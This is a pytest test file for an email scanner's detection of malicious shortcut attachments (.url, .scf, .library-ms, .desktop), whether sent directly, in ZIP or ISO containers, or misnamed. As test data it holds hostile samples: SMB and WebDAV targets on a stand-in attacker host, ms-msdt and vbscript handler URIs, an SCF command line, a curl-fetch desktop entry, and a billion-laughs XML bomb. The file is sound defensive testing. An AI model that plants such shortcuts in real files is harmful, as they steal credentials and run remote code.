"""Shortcut files that are not .lnk: .url, .scf, .library-ms / .searchConnector-ms and .desktop.

Each format attached directly, inside a ZIP and inside an ISO image, found by its bytes when
misnamed; the benign side (web shortcuts, other INI files, a desktop entry of an ordinary
application); damaged and hostile input; Japanese and English mails.
"""

from __future__ import annotations

import hashlib
import time

import pytest
from cases import with_attachment
from cases_containers import plain_zip
from cases_shortcuts import (
    DESKTOP,
    DESKTOP_APP,
    DESKTOP_SMB_LINK,
    LIBRARY_LOCAL,
    LIBRARY_MS,
    LIBRARY_REMOTE_ICON,
    OCTET,
    SCF,
    SCF_BENIGN,
    SEARCH_CONNECTOR,
    URL_LOCAL,
    URL_MSDT,
    URL_REMOTE_ICON,
    URL_SEARCH,
    URL_SMB,
    URL_WEB,
    URL_WEBDAV,
)
from conftest import eml

from mailcheck.analyzers import payloads, shortcut_files
from mailcheck.analyzers.interface import AttachmentContext
from mailcheck.api import scan_bytes
from mailcheck.catalog import fill, load
from mailcheck.config import DEFAULT_CONFIG
from mailcheck.engine import Engine
from mailcheck.extract import Item
from mailcheck.limits import DEFAULT
from mailcheck.model import Finding, ScanResult
from mailcheck.sniff import extension_matches, sniff
from testkit.payloads import build_iso

CATALOG = load()
HOST = "198.51.100.7"


def ids(result: ScanResult) -> set[str]:
    return {f.id for f in result.findings}


def finding(result: ScanResult, finding_id: str) -> Finding:
    return next(f for f in result.findings if f.id == finding_id)


def facts(result: ScanResult, finding_id: str) -> dict[str, str]:
    return dict(finding(result, finding_id).facts())


def scan_attached(data: bytes, name: str, content_type: str = OCTET) -> ScanResult:
    return scan_bytes(with_attachment(data, name, content_type))


def run_analyzer(data: bytes, filename: str, role: str = "attachment") -> list[str]:
    item = Item(
        path=f"2/{filename}",
        filename=filename,
        declared_type="",
        sniffed=sniff(data),
        data=data,
        sha256=hashlib.sha256(data).hexdigest(),
        depth=0,
        role=role,
    )
    ctx = AttachmentContext(
        item=item, config=DEFAULT_CONFIG, limits=DEFAULT, engine=Engine(cache=False)
    )
    return [hit.id for hit in shortcut_files.shortcut_files(ctx)]


# (bytes, file name, finding id, the host its evidence names, the sniffed kind)
MALICIOUS = [
    (URL_SMB, "invoice.url", "attachment.url_shortcut", HOST, "internet-shortcut"),
    (URL_WEBDAV, "invoice.url", "attachment.url_shortcut", HOST + "@SSL", "internet-shortcut"),
    (URL_SEARCH, "search.url", "attachment.url_shortcut", HOST + "@80", "internet-shortcut"),
    (URL_MSDT, "support.url", "attachment.url_shortcut", "ms-msdt:", "internet-shortcut"),
    (LIBRARY_MS, "Invoices.library-ms", "attachment.library_ms", HOST + "@SSL", "library-ms"),
    (SEARCH_CONNECTOR, "Invoices.searchConnector-ms", "attachment.library_ms", HOST, "library-ms"),
    (SCF, "@invoice.scf", "attachment.scf", HOST, "scf"),
    (DESKTOP, "Invoice.pdf.desktop", "attachment.desktop_entry", HOST, "desktop"),
    (DESKTOP_SMB_LINK, "Invoices.desktop", "attachment.desktop_entry", HOST, "desktop"),
]
MALICIOUS_IDS = [f"{case[1]}-{case[2]}" for case in MALICIOUS]


# --- sniffing --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "name", "finding_id", "host", "kind"), MALICIOUS, ids=MALICIOUS_IDS
)
def test_sniffed_by_content(data: bytes, name: str, finding_id: str, host: str, kind: str) -> None:
    found = sniff(data)
    assert found.kind == kind
    assert extension_matches(name, found)
    assert extension_matches("invoice.txt", found)  # opens in Notepad: not a disguise


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"\xef\xbb\xbf" + URL_SMB, "internet-shortcut"),
        ("[InternetShortcut]\r\nURL=file://h/x.exe\r\n".encode("utf-16"), "internet-shortcut"),
        (b"; saved by Explorer\r\n\r\n" + URL_SMB, "internet-shortcut"),
        (b"[General]\nname=report\nurl=https://example.com/\n", "text"),
        (b"[.ShellClassInfo]\r\nIconResource=C:\\Windows\\x.dll,3\r\n", "text"),
        (b"[InternetShortcut]\r\n[Other]\r\nURL=https://example.com/\r\n", "text"),
        (b"Please add this to the file:\r\n[InternetShortcut]\r\nURL=x\r\n", "text"),
        (b"[Desktop Entry]\nType=Directory\nIcon=folder-blue\n", "text"),
        (b'<?xml version="1.0"?><config><url>\\\\host\\share</url></config>', "xml"),
        (b"<html><body><p>[InternetShortcut]</p></body></html>", "html"),
    ],
)
def test_sniff_edges(data: bytes, kind: str) -> None:
    assert sniff(data).kind == kind


def test_the_analyzer_declaration_matches_the_module() -> None:
    declared = next(a for a in payloads.ANALYZERS if a.name == "payload.shortcut_files")
    assert declared.emits == shortcut_files.EMITS
    assert declared.kinds == shortcut_files.KINDS


# --- attached directly, in a ZIP, in an ISO, misnamed ----------------------------------------


@pytest.mark.parametrize(
    ("data", "name", "finding_id", "host", "kind"), MALICIOUS, ids=MALICIOUS_IDS
)
def test_attached_directly(data: bytes, name: str, finding_id: str, host: str, kind: str) -> None:
    result = scan_attached(data, name)
    assert finding_id in ids(result)
    assert result.verdict.label == "malicious"
    got = facts(result, finding_id)
    assert got["attachment"] == f"2/{name}"
    assert host in got["host"]
    assert "attachment.type_mismatch" not in ids(result)


@pytest.mark.parametrize(
    ("data", "name", "finding_id", "host", "kind"), MALICIOUS, ids=MALICIOUS_IDS
)
def test_inside_a_zip(data: bytes, name: str, finding_id: str, host: str, kind: str) -> None:
    archive = plain_zip([("readme.txt", b"see the shortcut"), (name, data)])
    result = scan_attached(archive, "invoice.zip", "application/zip")
    assert result.verdict.label == "malicious"
    got = facts(result, finding_id)
    assert got["attachment"] == f"2/invoice.zip/{name}"
    assert finding(result, finding_id).evidence[0].location == f"attachment 2/invoice.zip/{name}"
    assert host in got["host"]


@pytest.mark.parametrize(
    ("data", "name", "finding_id", "host", "kind"), MALICIOUS, ids=MALICIOUS_IDS
)
def test_inside_an_iso(data: bytes, name: str, finding_id: str, host: str, kind: str) -> None:
    image = build_iso([("Invoice.pdf", b"%PDF-1.4\n%%EOF\n"), (name, data)])
    result = scan_attached(image, "invoice.iso", "application/x-iso9660-image")
    assert result.verdict.label == "malicious"
    assert facts(result, finding_id)["attachment"] == f"2/invoice.iso/{name}"


@pytest.mark.parametrize(
    ("data", "name", "finding_id", "host", "kind"), MALICIOUS, ids=MALICIOUS_IDS
)
def test_found_by_content_when_misnamed(
    data: bytes, name: str, finding_id: str, host: str, kind: str
) -> None:
    result = scan_attached(data, "invoice.txt", "text/plain")
    assert finding_id in ids(result)
    assert facts(result, finding_id)["attachment"] == "2/invoice.txt"
    assert "attachment.type_mismatch" not in ids(result)
    # And nameless in an archive.
    archive = plain_zip([("0001", data)])
    assert finding_id in ids(scan_attached(archive, "a.zip", "application/zip"))


def test_the_evidence_of_an_internet_shortcut() -> None:
    result = scan_attached(URL_SMB, "invoice.url")
    got = facts(result, "attachment.url_shortcut")
    assert got["target"] == f"file://{HOST}/share/invoice.exe"
    assert (got["via"], got["runs"], got["format"]) == ("SMB", ".exe", ".url")
    assert ids(result) == {"attachment.url_shortcut"}  # a local icon is no trick
    webdav = facts(scan_attached(URL_WEBDAV, "a.url"), "attachment.url_shortcut")
    assert (webdav["via"], webdav["runs"]) == ("WebDAV", ".url")
    search = facts(scan_attached(URL_SEARCH, "a.url"), "attachment.url_shortcut")
    assert search["via"] == "search-ms" and search["target"].startswith("search-ms:query=invoice")


def test_a_remote_icon_is_its_own_trick() -> None:
    result = scan_attached(URL_REMOTE_ICON, "q3.url")
    assert ids(result) == {"attachment.url_shortcut_web", "attachment.remote_icon"}
    assert result.verdict.label == "suspicious"
    got = facts(result, "attachment.remote_icon")
    assert got["icon"] == f"\\\\{HOST}\\share\\icon.ico"
    assert (got["host"], got["via"], got["format"]) == (HOST, "SMB", ".url")
    # The web page it also opens is defanged in the evidence.
    web = facts(result, "attachment.url_shortcut_web")
    assert web["target"] == "hxxps://intranet[.]example[.]com/reports/q3.html"
    library = scan_attached(LIBRARY_REMOTE_ICON, "Docs.library-ms")
    assert ids(library) == {"attachment.shortcut_file", "attachment.remote_icon"}
    assert facts(library, "attachment.remote_icon")["format"] == "libraryDescription"


def test_scf_evidence() -> None:
    got = facts(scan_attached(SCF, "@invoice.scf"), "attachment.scf")
    assert got["icon"] == f"\\\\{HOST}\\share\\icon.ico"
    assert got["command"] == "2"
    command = b"[Shell]\r\nCommand=cmd.exe /c calc\r\nIconFile=explorer.exe,3\r\n"
    got = facts(scan_attached(command, "a.scf"), "attachment.scf")
    assert (got["command"], got["host"]) == ("cmd.exe /c calc", "-")


def test_desktop_entry_evidence() -> None:
    got = facts(scan_attached(DESKTOP, "Invoice.pdf.desktop"), "attachment.desktop_entry")
    assert got["programs"] == "sh, curl"
    assert got["target"] == f"hxxp://{HOST.replace('.', '[.]')}/a.sh"
    assert "http://" not in got["command"]


def test_library_evidence() -> None:
    got = facts(scan_attached(LIBRARY_MS, "Invoices.library-ms"), "attachment.library_ms")
    assert got["format"] == "libraryDescription"
    assert got["locations"] == f"\\\\{HOST}@SSL\\DavWWWRoot\\Invoices"
    assert got["via"] == "WebDAV"
    connector = facts(
        scan_attached(SEARCH_CONNECTOR, "a.searchConnector-ms"), "attachment.library_ms"
    )
    assert connector["locations"] == "hxxps://198[.]51[.]100[.]7/dav/"
    assert connector["format"] == "searchConnectorDescription"
    query = (
        b'<?xml version="1.0"?><persistedQuery version="1.0"><query><scope>'
        b'<include path="\\\\198.51.100.7\\share" nonRecursive="false"/></scope></query>'
        b"</persistedQuery>"
    )
    assert "attachment.library_ms" in ids(scan_attached(query, "Invoices.search-ms"))


# --- the benign side -------------------------------------------------------------------------


def test_a_web_shortcut_is_low_and_clean() -> None:
    result = scan_attached(URL_WEB, "Example.url")
    assert ids(result) == {"attachment.url_shortcut_web"}  # an https favicon is no share
    assert finding(result, "attachment.url_shortcut_web").severity == "low"
    assert result.verdict.label == "clean"
    assert facts(result, "attachment.url_shortcut_web")["host"] == "www[.]example[.]com"


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (SCF_BENIGN, "Show Desktop.scf"),
        (DESKTOP_APP, "writer.desktop"),
        (LIBRARY_LOCAL, "Documents.library-ms"),
        (URL_LOCAL, "report.url"),
    ],
)
def test_local_shortcut_files_are_medium_and_clean(data: bytes, name: str) -> None:
    result = scan_attached(data, name)
    assert ids(result) == {"attachment.shortcut_file"}
    assert result.verdict.label == "clean"
    assert facts(result, "attachment.shortcut_file")["target"] != "-"


@pytest.mark.parametrize(
    "data",
    [
        b"[General]\r\nname=report\r\nurl=file://198.51.100.7/share/x.exe\r\n",
        b"[.ShellClassInfo]\r\nIconResource=C:\\Windows\\System32\\imageres.dll,-184\r\n",
        b"[Desktop Entry]\nType=Directory\nIcon=folder-blue\n",
        b"; settings\n[database]\nhost=db.example.com\nport=5432\n",
        b'<?xml version="1.0"?><configuration><url>\\\\fs01\\share</url></configuration>',
    ],
)
def test_other_ini_and_xml_files_stay_clean(data: bytes) -> None:
    for name in ("settings.ini", "settings.txt", "config.xml"):
        result = scan_attached(data, name, "text/plain")
        assert not ids(result) & set(shortcut_files.EMITS), name


def test_a_message_body_that_looks_like_a_shortcut_is_not_a_file() -> None:
    message = eml("From: a@example.com", "Subject: how-to", body=URL_SMB.decode())
    assert not ids(scan_bytes(message)) & set(shortcut_files.EMITS)
    assert run_analyzer(URL_SMB, "", role="body") == []


# --- damaged and hostile input ---------------------------------------------------------------


def test_a_shortcut_padded_past_the_sniff_window_is_found_by_its_name() -> None:
    padded = b"[DEFAULT]\r\n" + b"; padding\r\n" * 4000 + URL_SMB
    assert sniff(padded).kind != "internet-shortcut"
    assert run_analyzer(padded, "invoice.url") == ["attachment.url_shortcut"]
    assert "attachment.url_shortcut" in ids(scan_attached(padded, "invoice.url"))


@pytest.mark.parametrize(
    ("data", "name", "expected"),
    [
        (b"\x00\xff" * 500, "invoice.url", []),
        (b"[InternetShortcut]\r\nURL\r\n=\r\n[", "invoice.url", ["attachment.shortcut_file"]),
        (
            b"[InternetShortcut\r\nURL=file://198.51.100.7/s/x.exe",
            "x.url",
            ["attachment.url_shortcut"],
        ),
        (
            b"[InternetShortcut]\r\nURL=\xff\xfe\x81file://198.51.100.7/s\r\n",
            "x.url",
            ["attachment.shortcut_file"],  # cp1252 text: a "URL" with no scheme
        ),
        (b"[Shell]\r\nIconFile=\r\n", "a.scf", ["attachment.shortcut_file"]),
        (b"[Desktop Entry]\nExec=\n", "a.desktop", []),
        (  # Windows cannot read a cut XML file either
            b"<libraryDescription><url>\\\\198.51.100.7\\s",
            "a.library-ms",
            ["attachment.shortcut_file"],
        ),
        (
            b"<libraryDescription><url></url></libraryDescription>",
            "a.library-ms",
            ["attachment.shortcut_file"],
        ),
        (b"not xml at all", "a.library-ms", []),
        (b"", "a.url", []),
    ],
)
def test_damaged_files_are_results(data: bytes, name: str, expected: list[str]) -> None:
    assert run_analyzer(data, name) == expected
    scan_attached(data, name)  # the whole scan never raises either


def test_xml_with_a_doctype_is_never_parsed_but_still_read() -> None:
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            b'<!ENTITY lol%d "&lol%d;&lol%d;&lol%d;&lol%d;">' % (i, i - 1, i - 1, i - 1, i - 1)
            for i in range(1, 10)
        )
        + b"]>"
        b'<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">'
        b"<name>&lol9;</name><searchConnectorDescriptionList><searchConnectorDescription>"
        b"<simpleLocation><url>\\\\198.51.100.7@SSL\\DavWWWRoot\\x</url></simpleLocation>"
        b"</searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>"
    )
    started = time.monotonic()
    result = scan_attached(laughs, "Invoices.library-ms")
    assert time.monotonic() - started < 5
    got = facts(result, "attachment.library_ms")
    assert got["parse_problem"] == "DOCTYPE refused"
    assert got["format"] == "libraryDescription"
    assert got["locations"] == "\\\\198.51.100.7@SSL\\DavWWWRoot\\x"


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"[InternetShortcut]\n" + b"[s]\nk=v\n" * 200_000, "a.url"),
        (b"[InternetShortcut]\nURL=" + b"\\" * 2_000_000, "a.url"),
        (b"[InternetShortcut]\nURL=search-ms:" + b"location:%5c%5c" * 200_000, "a.url"),
        (b"[InternetShortcut]\n" + b"=" * 3_000_000, "a.url"),
        (b"[Desktop Entry]\nExec=" + b"sh " * 1_000_000, "a.desktop"),
        (b"<libraryDescription>" + b"<url>\\\\h\\s</url>" * 200_000, "a.library-ms"),
        (b"<libraryDescription>" + b"<a>" * 200_000, "a.library-ms"),
        (b"[InternetShortcut]\r\n" * 300_000, "a.url"),
    ],
)
def test_hostile_sizes_are_bounded(data: bytes, name: str) -> None:
    started = time.monotonic()
    run_analyzer(data, name)
    sniff(data)
    assert time.monotonic() - started < 3


@pytest.mark.parametrize(
    ("target", "kind", "host"),
    [
        ("file://198.51.100.7/share/x.exe", "share", HOST),
        ("file:////198.51.100.7/share/x.exe", "share", HOST),
        ("file:\\\\198.51.100.7\\share\\x.exe", "share", HOST),
        ("FILE://198.51.100.7@ssl/x/y.lnk", "webdav", HOST + "@ssl"),
        ("file://198.51.100.7@SSL@443/DavWWWRoot/x", "webdav", HOST + "@SSL@443"),
        ("file:///C:/Windows/System32/calc.exe", "local", ""),
        ("file://localhost/C:/x.pdf", "local", ""),
        ("file://C:/x.pdf", "local", ""),
        ("\\\\198.51.100.7\\share\\x.exe", "share", HOST),
        ("//198.51.100.7/share/x", "share", HOST),
        ("\\\\attacker.example@80\\share", "webdav", "attacker.example@80"),
        ("\\\\?\\UNC\\198.51.100.7\\share", "share", HOST),
        ("\\\\?\\C:\\x.exe", "local", ""),
        ("\\\\.\\pipe\\x", "local", ""),
        ('"\\\\198.51.100.7\\share"', "share", HOST),
        ("%5C%5C198.51.100.7%5Cshare", "share", HOST),
        ("C:\\Users\\Public\\x.pdf", "local", ""),
        ("search-ms:query=a&crumb=location:\\\\198.51.100.7\\s", "search", HOST),
        ("search:query=a&crumb=location:https://198.51.100.7/", "search", HOST),
        ("search-ms:query=a&crumb=location:C:\\Users", "search", ""),
        ("ms-msdt:/id PCWDiagnostic", "handler", "ms-msdt:"),
        ("ms-officecmd:{}", "handler", "ms-officecmd:"),
        ("vbscript:Execute(1)", "handler", "vbscript:"),
        ("smb://198.51.100.7/share", "share", HOST),
        ("davs://198.51.100.7/share", "webdav", HOST),
        ("https://user@www.example.com:443/x", "web", "www.example.com:443"),
        ("mailto:a@example.com", "web", ""),
        ("", "", ""),
    ],
)
def test_classify(target: str, kind: str, host: str) -> None:
    assert shortcut_files.classify(target) == (kind, host)


@pytest.mark.parametrize(
    ("target", "ext"),
    [
        ("https://example.com", ""),
        ("https://example.com/", ""),
        ("https://example.com/setup.exe?x=1", ".exe"),
        ("https://example.com/a.html", ""),
        ("file://h/s/invoice.pdf.js", ".js"),
        ("\\\\h\\s\\x.hta ", ".hta"),
        ("\\\\h.com", ""),
        ("file:///C:/x/y.iso", ".iso"),
    ],
)
def test_payload_extension(target: str, ext: str) -> None:
    assert shortcut_files.payload_extension(target) == ext


# --- Japanese and English mails --------------------------------------------------------------

JA_BODY = (
    "お世話になっております。\r\n請求書のショートカットを送付いたします。\r\nご確認ください。\r\n"
)


@pytest.mark.parametrize(
    ("headers", "text"),
    [
        (("From: 経理部 <keiri@example.co.jp>", "Subject: =?utf-8?b?6KuL5rGC5pu4?="), JA_BODY),
        (
            ("From: Accounts <ap@example.com>", "Subject: Invoice 4471"),
            "Please see the invoice.\r\n",
        ),
    ],
)
def test_japanese_and_english_mails(headers: tuple[str, ...], text: str) -> None:
    archive = plain_zip([("請求書.url", URL_SMB), ("請求書.pdf.desktop", DESKTOP)])
    result = scan_bytes(
        with_attachment(archive, "請求書.zip", "application/zip", *headers, text=text)
    )
    assert {"attachment.url_shortcut", "attachment.desktop_entry"} <= ids(result)
    assert result.verdict.label == "malicious"
    assert facts(result, "attachment.url_shortcut")["attachment"].endswith("/請求書.url")


@pytest.mark.parametrize("finding_id", shortcut_files.EMITS)
@pytest.mark.parametrize("lang", ["en", "ja"])
def test_catalog_texts_fill_in_both_languages(finding_id: str, lang: str) -> None:
    cases = {
        "attachment.url_shortcut": (URL_SMB, "a.url"),
        "attachment.url_shortcut_web": (URL_REMOTE_ICON, "a.url"),
        "attachment.remote_icon": (URL_REMOTE_ICON, "a.url"),
        "attachment.library_ms": (LIBRARY_MS, "a.library-ms"),
        "attachment.scf": (SCF, "a.scf"),
        "attachment.desktop_entry": (DESKTOP, "a.desktop"),
        "attachment.shortcut_file": (DESKTOP_APP, "a.desktop"),
    }
    data, name = cases[finding_id]
    got = facts(scan_attached(data, name), finding_id)
    texts = CATALOG.entry(finding_id).texts[lang]  # type: ignore[index]
    for template in (texts.title, texts.explanation, texts.advice):
        filled = fill(template, got)
        assert "{" not in filled and "http://" not in filled and "https://" not in filled
    assert CATALOG.entry(finding_id).placeholders(lang) <= set(got)  # type: ignore[arg-type]
